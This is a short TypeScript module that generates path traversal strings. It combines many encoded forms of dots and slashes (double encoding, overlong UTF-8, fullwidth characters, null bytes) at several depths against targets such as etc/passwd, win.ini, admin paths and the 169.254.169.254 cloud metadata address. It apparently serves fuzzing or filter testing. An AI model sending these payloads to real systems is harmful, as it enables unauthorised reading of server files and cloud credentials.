const STEPS = ['..', '...', '.', '....', '..;', '..%00', '..%0d%0a', '.%00.'];
const DOTS = [
  '.',
  '%2e',
  '%2E',
  '%252e',
  '%25252e',
  '%c0%2e',
  '%c0%ae',
  '%e0%80%ae',
  '%u002e',
  '．',
  '%ef%bc%8e',
  '0x2e',
];
const SLASHES = [
  '/',
  '\\',
  '//',
  '%2f',
  '%2F',
  '%252f',
  '%25252f',
  '%5c',
  '%5C',
  '%255c',
  '%c0%af',
  '%c0%2f',
  '%e0%80%af',
  '%c1%9c',
  '%bg%qf',
  '%u2215',
  '%u2216',
  '∕',
  '／',
  '%ef%bc%8f',
  '0x2f',
  '/./',
  '%00/',
  ';/',
  '/;/',
  '%09/',
  '%0a/',
  '?/',
  '#/',
  '/%2e/',
];
const DEPTHS = [1, 2, 4, 8];
const TARGETS = [
  'admin',
  'auth/login',
  'etc/passwd',
  'windows%5cwin.ini',
  'v1/users',
  '@169.254.169.254/',
  'x?admin=1',
  '',
];

/** Path traversal strings: every known encoding of a dot and a slash, at several depths and positions. */
export function traversals(): readonly string[] {
  const climbs = [...STEPS, ...DOTS.map((dot) => dot + dot), ...DOTS.slice(1).map((dot) => `.${dot}`)];
  const strings = climbs.flatMap((climb) =>
    SLASHES.flatMap((slash) =>
      DEPTHS.flatMap((depth) => TARGETS.map((target) => `${(climb + slash).repeat(depth)}${target}`)),
    ),
  );
  return [...new Set(strings)];
}
